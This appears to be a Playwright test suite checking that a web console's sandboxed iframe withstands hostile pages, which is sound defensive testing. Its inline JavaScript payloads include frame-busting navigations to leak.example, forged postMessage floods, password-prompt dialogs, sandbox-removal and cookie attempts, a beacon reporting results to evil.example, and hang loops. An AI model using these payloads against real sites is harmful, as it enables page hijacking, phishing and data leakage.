"""Pages that mean harm: what one in the frame can do to the console, which is nothing."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import Home
from tests.live import wait_until
from tests.network import Network, silence
from tests.test_wandering import address, wander
from tests.witness import Witness

EVIL = "http://evil.example/"
LEAK = "http://leak.example/"
OTHERS = [f"http://p{number}.example/" for number in range(6)]


def show(home: Home, network: Network, program: str, body: str = "", url: str = EVIL) -> Page:
    """A console whose first page is this one, running this program; others come after it."""
    network.page(url, f"<!doctype html><title>evil</title>{body}<script>{program}</script>")
    network.console("http://ana.example/", pages=OTHERS)
    page = home.open(pages=[url], consoles=["http://ana.example/"])
    wait_until(lambda: any(visit.path == "/done" for visit in network.visits))
    wait_for_the_neighbour(network, page)
    return page


def wait_for_the_neighbour(network: Network, page: Page) -> None:
    """Until its list is there: before that, there is no other page to wander to."""
    wait_until(lambda: network.visits_to("ana.example"))
    page.wait_for_timeout(500)


DONE = "new Image().src = 'http://evil.example/done';"
"""At the end of each program, so that a test that begins to look knows that it ran."""


def click_wander(page: Page) -> None:
    """As somebody does who looks before the next click: two quick ones count as one."""
    page.wait_for_timeout(350)
    page.get_by_role("button", name="Wander", exact=True).click()


def assert_wandering_goes_on(
    home: Home, network: Network, page: Page, press: Callable[[Page], None] = wander
) -> None:
    """The console is where it was, and shows one page of another's after the other."""
    assert page.url == home.url
    assert page.locator("#wander-iframe").get_attribute("sandbox")
    for _ in range(3):
        before = address(page)
        press(page)
        assert address(page) != before
    expect(page.frame_locator("#wander-iframe").locator("h1")).to_have_text(
        address(page).removeprefix("http://")
    )
    assert page.url == home.url


@pytest.mark.parametrize(
    "way",
    [
        f"top.location = '{LEAK}'",
        f"top.location.replace('{LEAK}')",
        f"parent.location.href = '{LEAK}'",
        f"open('{LEAK}', '_top')",
        f"open('{LEAK}', '_parent')",
        "document.querySelector('a').click()",
        "document.querySelector('form').submit()",
        "top.history.pushState(0, '', '/elsewhere')",
        "top.close()",
        "top.document.body.remove()",
    ],
)
def test_the_console_stays_where_it_is(home: Home, network: Network, way: str) -> None:
    body = f"<a href='{LEAK}' target=_top>x</a><form action='{LEAK}' target=_top></form>"
    page = show(home, network, f"try {{ {way} }} catch {{}} {DONE}", body)
    page.wait_for_timeout(200)
    assert not network.visits_to("leak.example")
    assert_wandering_goes_on(home, network, page)


def test_messages_are_not_listened_to(home: Home, network: Network) -> None:
    """Nor does a flood of them hold the page up."""
    program = """
      const forged = { pages: ['http://forged.example/'], consoles: ['http://forged.example/'] }
      const said = [
        { type: 2, wander: forged, url: 'http://me.example/' },
        { url: 'http://ana.example/wander.js', text: JSON.stringify(forged) },
        JSON.stringify(forged), 0, null, 'x'.repeat(1e5),
      ]
      setInterval(() => {
        for (let i = 0; i < 40; i++) for (const one of said) top.postMessage(one, '*')
      }, 20)
    """
    with Witness(home.page) as witness:
        page = show(home, network, program + DONE)
        page.wait_for_timeout(1000)
        assert_wandering_goes_on(home, network, page)
        witness.assert_calm()
    assert not network.visits_to("forged.example")


def test_no_dialog_is_shown(home: Home, network: Network) -> None:
    program = """
      addEventListener('beforeunload', event => event.preventDefault())
      for (const ask of [alert, confirm, prompt, print]) try { ask('Your password?') } catch {}
    """
    with Witness(home.page) as witness:
        page = show(home, network, program + DONE)
        page.frame_locator("#wander-iframe").locator("html").click()
        assert_wandering_goes_on(home, network, page)
        witness.assert_calm()


OWN = "http://me.example/by-a-guest"
TAKES_THE_SANDBOX_OFF = """
  const tried = []
  const attempt = (name, action) => {
    try { action(); tried.push(name) } catch {}
  }
  attempt('parent document', () => parent.document.title)
  attempt('frame element', () => frameElement.removeAttribute('sandbox'))
  attempt('list of the console', () => parent.wander.pages)
  attempt('an origin', () => { if (origin === 'null') throw 0 })
  attempt('cookies', () => { document.cookie = 'a=b' })
  new Image().src = 'http://evil.example/tried?' + encodeURIComponent(tried)
"""


def test_a_page_of_our_own_origin_cannot_take_the_sandbox_off(home: Home, network: Network) -> None:
    page = show(home, network, TAKES_THE_SANDBOX_OFF + DONE, url=OWN)
    (visit,) = [visit for visit in network.visits if visit.path == "/tried"]
    assert visit.query == "", "what it could reach"
    sandbox = page.locator("#wander-iframe").get_attribute("sandbox")
    assert sandbox is not None
    assert "allow-same-origin" not in sandbox
    assert_wandering_goes_on(home, network, page)


def test_a_page_of_another_origin_has_its_own_and_not_ours(home: Home, network: Network) -> None:
    page = show(home, network, TAKES_THE_SANDBOX_OFF + DONE)
    (visit,) = [visit for visit in network.visits if visit.path == "/tried"]
    assert visit.query == "an%20origin%2Ccookies", "pages need those of their own to work"
    assert_wandering_goes_on(home, network, page)


def test_a_pop_up_opens_and_has_no_handle_on_the_console(home: Home, network: Network) -> None:
    evil = "<h1 onclick=\"open('http://popup.example/', '_blank', 'noopener')\">press me</h1>"
    network.page(EVIL, evil)
    network.page(
        "http://popup.example/", f"<script>document.title = String(opener); {DONE}</script>"
    )
    network.console("http://ana.example/", pages=OTHERS)
    page = home.open(pages=[EVIL], consoles=["http://ana.example/"])
    with page.context.expect_page() as popup:
        page.frame_locator("#wander-iframe").locator("h1").click()
    wait_until(lambda: any(visit.path == "/done" for visit in network.visits))
    assert popup.value.title() == "null"
    wait_for_the_neighbour(network, page)
    assert_wandering_goes_on(home, network, page)


def test_a_page_that_takes_the_focus_keeps_nobody_from_wandering(
    home: Home, network: Network
) -> None:
    page = show(
        home,
        network,
        f"setInterval(() => document.querySelector('input').focus(), 5); {DONE}",
        "<input>",
    )
    page.wait_for_timeout(200)
    # By mouse: such a page gets the keys. The way out of it is by Tab.
    assert_wandering_goes_on(home, network, page, click_wander)


def test_a_page_that_never_rests_keeps_nobody_from_wandering(home: Home, network: Network) -> None:
    """Its own origin's process is busy; the console's is not."""
    program = "setTimeout(() => { const end = Date.now() + 4000; while (Date.now() < end); }, 100)"
    with Witness(home.page) as witness:
        page = show(home, network, program + ";" + DONE)
        page.wait_for_timeout(150)
        assert_wandering_goes_on(home, network, page)
        witness.assert_calm()


@pytest.mark.parametrize(
    "way",
    [
        "onbeforeunload = onpagehide = onunload = () => { for (;;); }",
        "setTimeout(() => location.reload(), 50)",
        "setInterval(() => { location = '?' + Math.random() }, 20)",
        "setInterval(() => stop(), 1); navigation.onnavigate = event => event.preventDefault()",
        "for (let i = 0; i < 99; i++) history.pushState(0, '', '?' + i)",
    ],
)
def test_a_page_cannot_stay_under_the_address_of_the_next(
    home: Home, network: Network, way: str
) -> None:
    # Only once it has told that it ran: some of these ways would stop that too.
    after = f"const told = new Image(); told.onerror = () => {{ {way} }}; told.src = '{EVIL}done'"
    page = show(home, network, after)
    page.wait_for_timeout(200)
    wander(page)
    assert address(page) in OTHERS
    expect(page.frame_locator("#wander-iframe").locator("h1")).to_have_text(
        address(page).removeprefix("http://")
    )
    page.wait_for_timeout(300)
    assert page.frame_locator("#wander-iframe").locator("h1").count() == 1
    page.get_by_role("button", name="Back").click()
    expect(page.locator("#url-input")).to_have_value(EVIL)


def test_a_page_of_our_own_origin_does_not_get_the_next_ones_rights(
    home: Home, network: Network
) -> None:
    """While the next page is on its way, one that comes again must not come without its sandbox."""
    program = TAKES_THE_SANDBOX_OFF + DONE + "setTimeout(() => location.reload(), 60)"
    network.page(OWN, f"<!doctype html><script>{program}</script>")
    for other in OTHERS:
        network.mount(other.split("/")[2], silence)
    network.console("http://ana.example/", pages=OTHERS)
    page = home.open(pages=[OWN], consoles=["http://ana.example/"])
    wait_until(lambda: any(visit.path == "/done" for visit in network.visits))
    page.wait_for_timeout(300)
    wander(page)
    page.wait_for_timeout(800)
    reached = {visit.query for visit in network.visits if visit.path == "/tried"}
    assert reached == {""}
